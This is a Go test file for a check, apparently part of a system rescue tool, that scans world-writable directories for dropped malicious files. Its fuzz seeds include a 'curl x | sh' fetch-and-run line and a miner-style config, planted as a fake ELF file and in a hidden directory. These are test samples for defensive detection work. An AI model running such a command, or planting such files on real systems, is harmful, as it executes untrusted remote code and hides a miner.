package dropped

import (
	"testing"

	"rescue/checks/checkstest"
	"rescue/pkgdb"
)

func TestGolden(t *testing.T) {
	checkstest.RunWith(t, Check, checkstest.Options{OpenPackages: pkgdb.Open})
}

// FuzzCheck feeds hostile files to the walk of the world-writable places.
func FuzzCheck(f *testing.F) {
	f.Add([]byte("#!/bin/sh\ncurl x | sh\n"), []byte(`{"donate-level": 1, "pools": []}`))
	f.Fuzz(func(t *testing.T, prog, conf []byte) {
		checkstest.FuzzCheck(t, Check, map[string][]byte{
			"tmp/x": append([]byte("\x7fELF"), prog...), "var/tmp/.a/b": prog, "dev/shm/c.json": conf,
		})
	})
}
